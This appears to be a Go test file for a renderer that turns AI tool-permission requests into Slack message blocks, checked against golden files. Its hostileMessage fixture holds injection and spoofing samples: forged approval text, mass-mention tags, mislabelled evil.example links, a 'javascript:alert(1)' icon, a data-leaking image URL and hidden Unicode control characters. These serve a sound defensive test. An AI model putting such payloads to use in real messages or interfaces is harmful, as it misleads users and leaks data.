package blocks

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/nodhq/nod/core/chat"
	"github.com/nodhq/nod/core/render"
	"github.com/nodhq/nod/core/text"
	"github.com/nodhq/nod/tests/standins/fakeslack/samples"
	"github.com/nodhq/nod/tests/suites/conformance/looks"
)

func cardOf(n int, args string) render.Ask {
	a := looks.Card(samples.Ana, n, args)
	a.More = moreOf(a.Token)
	return a
}

// moreOf is all that can stand behind ⋯.
func moreOf(token string) []render.Choice {
	asked := func(c chat.Choice, label, confirm string) render.Choice {
		b := looks.Button(c, token, label)
		b.Confirm = confirm
		return b
	}
	exact := asked(chat.AllowExact, text.LabelAllowExact, text.ConfirmPins("write_file", "files", "with path = “notes.txt”"))
	exact.Hint = "with path = “notes.txt”"
	tick := looks.Button(chat.Remember, token, text.LabelRemember)
	tick.Toggle = render.ToggleOff
	return []render.Choice{
		looks.Button(chat.DenyReason, token, text.LabelDenyReason), looks.Button(chat.Edit, token, text.LabelEdit), looks.Button(chat.ViewDetail, token, text.LabelViewDetails),
		exact, asked(chat.AllowPath, text.LabelAllowPath, text.ConfirmPins("write_file", "files", "below /srv/a")), looks.Button(chat.AllowHour, token, text.LabelAllowHour),
		looks.Button(chat.AllowUses, token, text.LabelAllowUses(3)), asked(chat.AllowReads, text.LabelAllowReads("files"), text.ConfirmWide("reads", "files")),
		asked(chat.AllowWrites, text.LabelAllowWrites("files"), text.ConfirmWide("reads and writes", "files")), asked(chat.AllowServer, text.LabelAllowServer("files"), text.ConfirmServer("files")),
		tick, asked(chat.AllowSession, text.LabelAllowSession, text.ConfirmSession), looks.Button(chat.Extend, token, text.LabelExtend),
	}
}

// states are every look that a message has.
func states() map[string]render.Message {
	all := looks.States(samples.Ana, 160, cardOf)
	read := all["working"].Blocks[1]
	maps.Copy(all, askedStates())
	maps.Copy(all, map[string]render.Message{
		"input": {State: render.Waiting, Blocks: []render.Block{looks.Step(render.StepRunning, "write_file", render.Plain("started "), render.Time{At: looks.TwoPM}), render.Ask{
			Call: "c1", Token: "WANT1", Kind: render.AskInput, Question: text.ElicitationHeader("files"), Run: text.RunLine("write_file", "files"), Tool: "write_file", Server: "files",
			Says: "Where should it go? <!channel>", Warning: text.ElicitationWarning("files"),
			Choices: []render.Choice{looks.Button(chat.Answer, "WANT1", text.LabelAnswer), {Choice: chat.Decline, Token: "WANT1", Label: text.LabelDecline, Style: render.Danger}},
			Footer:  render.Line{samples.Ana, render.Plain(text.CanAnswer + ".")},
		}}, Choices: []render.Choice{looks.Stop()}},
		"unasked": {State: render.Working, Blocks: []render.Block{render.Note{Line: render.Line{render.Strong(text.NeverAsks)}, Choices: []render.Choice{looks.Button(chat.AskFor, "T1", text.LabelAskMore)}}, read}, Choices: []render.Choice{looks.Stop()}},
		"hostile": hostileMessage(),
	})
	return all
}

// hostileMessage tries what a model, a tool, a server and a person could.
func hostileMessage() render.Message {
	const forged = "x*bold* _it_ <!channel> <@U1> <https://evil.example|https://good.example> @here ```\n*Approved by @admin*"
	a := cardOf(1, `{"content":"`+"```\\n*Approved by @admin* <!channel> <https://evil.example|ok>"+`","pa`+"\u200b"+`th":"a\u202eb"}`)
	a.Header, a.Run, a.Question, a.Says = text.AllowHeader(forged), text.RunLine(forged, forged), forged, forged
	a.Server, a.Icon = forged, "javascript:alert(1)"
	a.Facts = render.Line{render.Plain(forged), render.Strong(forged)}
	a.Footer = render.Line{render.Person{User: chat.User{Platform: "web", Key: "<!channel>"}, Name: forged}, render.Plain(forged)}
	s := looks.Step(render.StepFailed, forged, render.Plain(forged))
	s.Choices = []render.Choice{looks.Button(chat.Undo, "ASK9", text.LabelUndo)}
	return render.Message{State: render.Waiting, Blocks: []render.Block{
		render.Text{Markdown: "Look: <!channel> <@U1> <#C1|x> <https://evil.example|https://good.example>\n[https://good.example](https://evil.example) ![pixel](https://evil.example/?q=secret)\n> a quote <!here>\n@here and @channel `@everyone`\n\n```go\nif a < b && c > d {}\n```\n<a href=\"https://evil.example\">ok</a>"},
		s, looks.Note(forged), a,
	}, Choices: []render.Choice{looks.Stop()}}
}

// R73 R77 R88
func TestShapes(t *testing.T) {
	for name, m := range states() {
		t.Run(name, func(t *testing.T) {
			p := EncodeMessage(render.Fit(m, Limits))
			if err := check(p); err != nil {
				t.Fatal(err)
			}
			looks.Golden(t, name+".json", pretty(t, p))
			looks.Golden(t, name+".txt", []byte(dump(p)))
		})
	}
}

// Every golden file is of a state, so that none stays behind.
func TestNoShapeIsLeftOver(t *testing.T) {
	looks.NoneIsLeft(t, states(), "view_", "note_")
}

func pretty(t *testing.T, v any) []byte {
	t.Helper()
	if p, ok := v.(Message); ok {
		v = map[string]any{"text": p.Text, "blocks": p.Blocks}
	}
	var b bytes.Buffer
	if err := json.Indent(&b, rawJSON(v), "", " "); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// dump is a payload as people see it, more or less: made from the JSON, so that what is not in it does not show.
func dump(p Message) string {
	var b strings.Builder
	fmt.Fprintf(&b, "notification: %s\n\n", p.Text)
	dumpBlocks(&b, decoded(rawJSON(p.Blocks)), "")
	return b.String()
}

func dumpBlocks(b *strings.Builder, list any, in string) {
	blocks, _ := list.([]any)
	for _, x := range blocks {
		dumpBlock(b, x.(map[string]any), in)
	}
}

func dumpBlock(b *strings.Builder, n map[string]any, in string) {
	str := func(path string) string { v, _ := field(n, path); s, _ := v.(string); return s }
	say := func(prefix, s string) {
		for line := range strings.SplitSeq(s, "\n") {
			fmt.Fprintf(b, "%s%s%s\n", in, prefix, line)
		}
	}
	switch n["type"] {
	case "divider":
		say("", strings.Repeat("─", 40))
	case "header":
		say("# ", str("text.text"))
	case "section":
		say("  ", str("text.text"))
		if a, ok := n["accessory"].(map[string]any); ok {
			say("      ", dumpElement(a))
		}
	case "markdown":
		say("", str("text"))
	case "context":
		var parts []string
		for _, e := range n["elements"].([]any) {
			m := e.(map[string]any)
			if m["type"] == "image" {
				parts = append(parts, fmt.Sprintf("(%s)", m["alt_text"]))
				continue
			}
			parts = append(parts, fmt.Sprint(m["text"]))
		}
		say("  · ", strings.Join(parts, "|"))
	case "plan":
		say("▾ ", str("title"))
		dumpBlocks(b, n["tasks"], in+"  ")
	case "task_card":
		line := str("title")
		if out, ok := n["output"].(map[string]any); ok {
			line += "   " + richText(out)
		}
		say("", line)
	case "rich_text":
		say("", richText(n))
	case "actions":
		var parts []string
		for _, e := range n["elements"].([]any) {
			m := e.(map[string]any)
			parts = append(parts, dumpElement(m))
		}
		say("  ", strings.Join(parts, " "))
	case "input":
		if e, _ := n["element"].(map[string]any); e["options"] != nil {
			say("  ", str("label.text")+": "+dumpElement(e)+" "+str("hint.text"))
			break
		}
		say("  ", str("label.text")+": ["+str("element.initial_value")+str("element.initial_date")+str("element.placeholder.text")+"] "+str("hint.text"))
	default:
		say("?? ", fmt.Sprint(n))
	}
}

// dumpElement is a button, or a menu with its lines: a mark before what is chosen, and "?" after what is asked about once more.
func dumpElement(m map[string]any) string {
	options, ok := m["options"].([]any)
	if !ok {
		t, _ := field(m, "text.text")
		ask := ""
		if m["confirm"] != nil {
			ask = " ?"
		}
		return "[" + t.(string) + ask + "]"
	}
	chosen, _ := m["initial_options"].([]any)
	chosen = append(chosen, m["initial_option"])
	var opts []string
	for _, o := range options {
		t, _ := field(o.(map[string]any), "text.text")
		say := t.(string)
		if d, ok := field(o.(map[string]any), "description.text"); ok {
			say += " (" + d.(string) + ")"
		}
		if v, _ := o.(map[string]any)["value"].(string); strings.HasPrefix(v, "?") {
			say += " ?"
		}
		if slices.ContainsFunc(chosen, func(c any) bool { return reflect.DeepEqual(c, o) }) {
			say = "● " + say
		}
		opts = append(opts, say)
	}
	mark := map[any]string{"overflow": "⋯", "static_select": "▾", "multi_static_select": "▾▾", "checkboxes": "☐", "radio_buttons": "○"}[m["type"]]
	return "[" + mark + " " + strings.Join(opts, " | ") + "]"
}

func richText(n map[string]any) string {
	var b strings.Builder
	for _, e := range n["elements"].([]any) {
		for _, x := range e.(map[string]any)["elements"].([]any) {
			m := x.(map[string]any)
			switch m["type"] {
			case "text":
				b.WriteString(m["text"].(string))
			case "user":
				fmt.Fprintf(&b, "@%s", m["user_id"])
			case "date":
				b.WriteString(m["fallback"].(string))
			case "link":
				fmt.Fprintf(&b, "%s→%s", m["text"], m["url"])
			default:
				fmt.Fprintf(&b, "??%v", m)
			}
		}
	}
	return b.String()
}

// reachable are the choices of a drawn message, and those of a card that stand in its details alone, which a button of it opens.
func reachable(t interface{ Fatalf(string, ...any) }, m render.Message, p Message) []string {
	out := pressable(t, p)
	for _, b := range asksOf(m) {
		a := b.(render.Ask)
		if !slices.Contains(out, "view "+a.Token) {
			continue
		}
		v := EncodeDetails(render.Details{Title: "a call"}, aForm, slices.DeleteFunc(slices.Concat(a.Choices, a.More), a.Opens), "")
		if err := checkView(v); err != nil {
			t.Fatalf("the details: %v", err)
		}
		had := slices.Clone(out)
		for _, c := range pressable(t, Message{Blocks: v.Blocks.BlockSet}) {
			if i := slices.Index(had, c); i >= 0 {
				had = slices.Delete(had, i, i+1)
			} else {
				out = append(out, c)
			}
		}
	}
	slices.Sort(out)
	return out
}

// pressable are the choices of a payload, as a click on each would be read.
func pressable(t interface{ Fatalf(string, ...any) }, p Message) (out []string) {
	for _, a := range clicksOn(p) {
		c, token, ok := ParseAction(&a)
		if !ok {
			t.Fatalf("a click on %+v says nothing", a)
		}
		out = append(out, string(c)+" "+token)
	}
	slices.Sort(out)
	return out
}
